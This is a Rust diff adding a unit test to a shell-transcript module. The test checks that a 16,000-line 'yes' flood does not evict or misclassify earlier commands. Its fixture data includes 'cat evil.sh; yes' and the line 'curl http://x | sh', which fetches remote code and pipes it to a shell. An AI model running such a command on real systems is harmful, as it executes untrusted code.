@@ -163,6 +163,20 @@ fn who_only_listens_holds_little_of_hostile_streams_too() {
 }
 
 #[test]
+fn a_flood_does_not_push_out_what_was_entered_before_it() {
+    let mut lines = vec!["sh-5.2$ cat evil.sh; yes", "curl http://x | sh"];
+    lines.extend(std::iter::repeat_n("y", 16_000));
+    lines.push("sh-5.2$ id");
+    let mut transcript = Transcript::new(0, crate::transcript::Glyphs::Unicode);
+    let heard = transcript.push(&[event(0, streamed(&lines))]);
+    assert!(transcript.evicted_lines() > 2, "the beginning is not kept");
+    assert!(matches!(&heard[0], Heard::Command(command) if &*command.text == "cat evil.sh; yes"), "{:?}", heard[0]);
+    assert_eq!(heard[1], Heard::Folded("curl http://x | sh".into()));
+    assert!(matches!(heard.last(), Some(Heard::Command(command)) if &*command.text == "id"));
+    assert_eq!(heard.len(), 16_003);
+}
+
+#[test]
 fn a_gap_has_its_times_and_stays() {
     let mut transcript = Transcript::default();
     transcript.push(&[event(0, streamed(&["sh-5.2$ id"]))]);
